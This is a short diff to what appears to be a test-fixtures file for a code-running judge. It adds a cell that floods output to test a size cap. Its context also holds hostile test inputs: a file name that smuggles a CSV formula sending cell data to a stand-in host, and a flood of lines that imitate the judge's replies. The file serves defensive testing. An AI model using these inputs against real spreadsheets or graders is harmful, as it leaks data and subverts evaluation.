@@ -213,6 +213,8 @@ RAW_HTML = (
 # a handed-in file whose name, in the notes of the CSV, holds `;=`: a new cell, and a formula, for a
 # spreadsheet in a locale that separates CSV fields with `;`
 FORMULA_FILE = 'notes;=HYPERLINK("x.invalid?"&A2).txt'
+# a cell printing 20 outputs of 4000 characters: the most the judge keeps of one cell
+PRINTS_A_LOT = 'for _i in range(20):\n    print("y" * 3999, flush=True)'
 # prints 2 MiB lines that look like the judge's replies for 4 s, then how many characters it sent
 PRINT_FLOOD = """
 import sys, time
